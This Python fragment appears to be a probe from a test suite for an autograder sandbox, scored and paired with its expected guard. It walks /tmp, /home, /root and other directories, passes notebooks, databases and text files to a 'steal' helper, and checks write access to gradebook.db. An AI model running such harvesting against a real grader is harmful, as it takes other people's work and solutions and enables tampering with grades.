"""Looks wherever notebooks, gradebooks and solutions may lie: around it, in /tmp, /home, /root, the course.

Deserves: 5.
Guard: a file system of its own, with the system, Python and what was handed in; the notebook itself is not copied.
"""

import time

end = time.monotonic() + 8
ends = (".ipynb", ".db", ".md", ".json", ".txt", ".sqlite", ".log")
places = [".", "..", "../../../..", REACH + "/../..", "/tmp", "/home", "/root", "/work", "/srv", "/var", "/run", "/mnt"]
for place in places:
    for folder, folders, files in os.walk(place):
        folders[:] = [name for name in folders if name not in ("node_modules", "site-packages", ".git", ".venv")]
        if time.monotonic() > end:
            break
        for name in files:
            try:
                path = os.path.join(folder, name)
                if name.endswith(ends) and os.path.getsize(path) < 10 << 20:
                    steal(path, open(path, "rb").read())
                if name == "gradebook.db" and os.access(path, os.W_OK):
                    report("write access to " + path)
            except OSError:
                pass
